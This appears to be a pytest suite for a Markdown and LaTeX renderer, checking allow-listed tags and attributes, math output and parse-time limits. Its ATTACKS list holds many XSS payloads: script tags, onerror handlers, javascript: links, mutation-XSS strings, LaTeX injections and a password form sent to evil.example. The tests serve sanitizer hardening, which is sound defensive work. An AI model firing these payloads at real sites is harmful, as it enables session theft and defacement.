"""Hostile and friendly text through the renderer."""

import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotation import rendering
from annotation.mathematics import MATHML_ATTRIBUTES, is_prose, render_latex
from annotation.rendering import ALLOWED_TAGS, MAX_MARKDOWN, code_stylesheet, render_markdown, render_plain

STATIC = Path(__file__).resolve().parents[2] / "static"
ALLOWED_ATTRIBUTES = {"href", "title", "target", "rel", "class", "start"} | MATHML_ATTRIBUTES


class Audit(HTMLParser):
    """Collects what a browser would see: tags, attributes, comments and text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.comments: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.comments.append(decl)

    def handle_pi(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        self.text += data


def assert_safe(html: str) -> None:
    seen = Audit(html)
    assert set(seen.tags) <= ALLOWED_TAGS
    assert {name for name, _ in seen.attributes} <= ALLOWED_ATTRIBUTES
    assert not seen.comments
    for name, value in seen.attributes:
        if name == "href":
            assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE)
        if name == "class":
            assert re.fullmatch(r"hl-\w+|image-alt|prose-scroll|align-(center|right)|muted|plain", value)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=x><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button>ok</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- comment --><!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>]]><?php echo 1 ?>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></main></body><plaintext>",
    "</textarea></title></pre></code><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1)) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)",
    "[x](//evil.example) [x](/admin/logout/) [x](?next=1) [x](#main) [x](../..)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example '\"><img src=x onerror=alert(1)>')",
    '<https://a.example/"onclick=alert(1)>',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [y](javascript:1) |",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed;background:url(//evil.example)}{x} + \class{dock}{y} + \id{main}{z}$",
    r"\[ \unicode{x3c}script\unicode{x3e} \]",
    r"$$\color{red;background:url(//evil.example)}{x}$$",
    r"\(<script>alert(1)</script>\)",
    "\ufeff<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scrıpt>alert(1)</scrıpt> <ſcript>alert(1)</ſcript>",
    "\x00<\x00script\x00>alert(1)",
    "\ud800<script>\udfff",
    "safe \u202egpj.exe\u202c \u2066hidden\u2069",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_is_shown_as_text(text):
    assert_safe(render_markdown(text))
    assert_safe(render_plain(text))


@pytest.mark.parametrize("prefix", ["> ", "- ", "1. ", "# ", "**", "| a |\n|---|\n| "])
@pytest.mark.parametrize("text", ATTACKS[:12])
def test_attack_inside_a_structure(text, prefix):
    assert_safe(render_markdown(prefix + text))


def test_raw_html_stays_readable():
    html = render_markdown("Use the <b>bold</b> tag & <br> in HTML")
    assert Audit(html).text.strip() == "Use the <b>bold</b> tag & <br> in HTML"


PIECES = [
    *ATTACKS,
    "$",
    "$$",
    r"\(",
    r"\)",
    r"\[",
    r"\]",
    "```",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "|",
    "[",
    "](",
    ")",
    "<",
    ">",
    '"',
]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=20)), max_size=8).map("".join))
def test_no_tag_outside_the_list_ever(text):
    html = render_markdown(text)
    assert_safe(html)
    assert render_markdown(text) == html


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="\\{}[]^_&$<>\"'/ abtexhrfclso=0189%#~", max_size=60))
def test_no_tag_outside_the_list_from_latex(latex):
    assert_safe(render_latex(latex, block=False))
    assert_safe(render_markdown(f"$${latex}$$"))


def test_markdown_features():
    html = render_markdown(
        "# One\n\n## Two\n\n#### Four\n\na **b** *c* ~~d~~ `e`\n\n3. x\n4. y\n\n> q\n\n---\n\n"
        "[l](https://x.example 't')"
    )
    assert "<h3>One</h3>" in html
    assert "<h4>Two</h4>" in html
    assert "<h6>Four</h6>" in html
    assert "<strong>b</strong> <em>c</em> <s>d</s> <code>e</code>" in html
    assert '<ol start="3">' in html
    assert "<blockquote>" in html
    assert "<hr>" in html
    link = re.search(r"<a [^>]*>", html)[0]
    assert all(part in link for part in ('href="https://x.example"', 'target="_blank"', 'title="t"'))
    assert 'rel="nofollow noopener noreferrer"' in link


def test_headings_start_at_the_third_level_whatever_was_written():
    assert Audit(render_markdown("### a\n\n##### b\n\n#### c")).tags == ["h3", "h5", "h4"]
    assert Audit(render_markdown("# a\n\n###### b")).tags == ["h3", "h6"]


def test_line_breaks_are_kept():
    assert Audit(render_markdown("roses\nviolets")).tags == ["p", "br"]


def test_table_scrolls_and_aligns_by_class():
    html = render_markdown("| a | b | c |\n|---|:-:|--:|\n| 1 | 2 | 3 |")
    assert html.startswith('<div class="prose-scroll"><table>')
    assert '<td class="align-right">3</td>' in html
    assert "style" not in html


def test_an_empty_corner_of_a_table_is_no_header():
    html = render_markdown("| | tea |\n|---|---|\n| price | 2 |")
    assert "<td></td>" in html
    assert html.count("<th>") == 1


def test_image_is_not_loaded():
    html = render_markdown("![a *small* cat](https://x.example/cat.png)")
    assert "img" not in Audit(html).tags
    assert "a small cat (https://x.example/cat.png)" in Audit(html).text


def test_code_is_highlighted_by_class():
    html = render_markdown("```python\ndef f(): # why\n    return '<b>'\n```")
    assert '<span class="hl-k">def</span>' in html
    assert "&lt;b&gt;" in html
    assert "span" not in Audit(render_markdown("```nosuchlanguage\ndef f\n```")).tags
    assert Audit(render_markdown("    indented < code")).text.rstrip("\n") == "indented < code"


def test_code_keeps_its_text():
    code = "\n\n  x = 1\t# two\n\n\ny\n\n"
    assert Audit(render_markdown(f"```python\n{code}```")).text.rstrip("\n") == code.rstrip("\n")


def test_stylesheet_of_code_is_current():
    assert (STATIC / "css" / "code.css").read_text("utf-8") == code_stylesheet()


@pytest.mark.parametrize(
    ("text", "display"),
    [
        ("$x^2$", "inline"),
        (r"so \(x^2\), right", "inline"),
        ("$$x^2$$", "block"),
        ("in $$x^2$$ a line", "block"),
        (r"\[x^2\]", "block"),
        ("text\n\\[\nx^2\n\\]\nmore", "block"),
        ("- item\n\n  $$\n  x^2\n  $$", "block"),
        ("> $$\n> x^2\n> $$", "block"),
        ("| a |\n|---|\n| $x^2$ |", "inline"),
        ("**$x^2$**", "inline"),
    ],
)
def test_mathematics(text, display):
    html = render_markdown(text)
    assert f'<math display="{display}">' in html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
    assert "$" not in html


def test_block_mathematics_is_not_read_as_markdown():
    html = render_markdown("$$\na\n= b\n- c * d * e\n$$")
    assert set(Audit(html).tags) & {"ul", "em", "h1", "h4"} == set()
    assert "<math" in html


@pytest.mark.parametrize("latex", [r"\frac{", r"\nosuchcommand{x}", "x^", "a & b", "{" * 500, "x" * 3000])
def test_bad_latex_is_shown_as_its_source(latex):
    html = render_latex(latex, block=False)
    assert html.startswith("<code>")
    assert Audit(html).text == latex


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10.",
        "Between $5-$10, or $5/$6",
        "$5 a month or 10$ a year",
        "US$5 and CA$6",
        "**$5** and **$10**",
        "echo $HOME and $PATH/$USER",
        "$ x $",
        "a $ sign",
        r"\$x$ and $y",
        r"\(see the notes below\)",
        "``` \n$x$\n```",
        "`$x$`",
        "$$",
        "$$$$",
        r"\(\)",
    ],
)
def test_what_is_not_mathematics(text):
    assert "<math" not in render_markdown(text)


def test_prose_between_delimiters():
    assert is_prose("20 dollars or 30")
    assert not is_prose(r"20 \text{ dollars or more}")
    assert not is_prose("a = b + c")


def test_aligned_equations_become_a_table():
    html = render_markdown("\\[\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n\\]")
    assert Audit(html).tags.count("mtr") == 2


def test_equal_texts_look_equal_whatever_came_between():
    text = "# A\n\n$x$ and `code`\n\n| a |\n|---|\n| b |"
    first = render_markdown(text)
    render_markdown("[a]: https://x.example\n\n[a] $y$ " + text)
    rendering._rendered.clear()
    assert render_markdown(text) == first


def test_references_do_not_leak_from_one_text_to_another():
    render_markdown("[secret]: https://x.example\n\n[secret]")
    assert "<a" not in render_markdown("[secret]")


def test_line_ends_do_not_matter():
    assert render_markdown("a\r\n\r\nb\rc") == render_markdown("a\n\nb\nc")


@pytest.mark.parametrize("text", ["", None, "  \n", "\u202e\x00"])
def test_nothing_is_said_to_be_nothing(text):
    assert "(empty)" in render_markdown(text)
    assert "(empty)" in render_plain(text)


def test_directional_overrides_are_removed():
    assert "\u202e" not in render_markdown("a \u202e b")


def test_plain_text_keeps_lines_and_is_escaped():
    assert render_plain("a\n  <b> & *c*") == '<pre class="plain">a\n  &lt;b&gt; &amp; *c*</pre>'


def test_long_text_is_plain():
    html = render_markdown("**a** <b>\n" * MAX_MARKDOWN)
    assert html.startswith('<pre class="plain">**a** &lt;b&gt;')


HEAVY = [
    "[",
    "*",
    "`",
    "> ",
    "- ",
    "|",
    "![",
    "<",
    "&",
    "$ ",
    "$a",
    r"\(",
    r"\[",
    "**a ",
    "_a ",
    "[a](",
    "~~",
    "$$\n",
]
HEAVY += [
    "\\[\n",
    "|a|\n|-|\n",
    "* a\n ",
    "`a",
    "$x$ ",
    r"$\frac{a}{b}$",
    "[a]: b\n",
    "</",
    "&#",
    "\\",
    "*a_ ",
    "![a][",
]


@pytest.mark.parametrize("piece", HEAVY)
def test_time_is_bounded(piece):
    """A text built to be slow, as long as is parsed at all, takes a moment and not a minute."""
    text = (piece * MAX_MARKDOWN)[:MAX_MARKDOWN]
    start = time.process_time()
    render_markdown(text)
    assert time.process_time() - start < 5


def test_a_megabyte_is_quick():
    start = time.process_time()
    render_markdown("$x$ *a* [b](c)\n" * 70_000)
    assert time.process_time() - start < 1
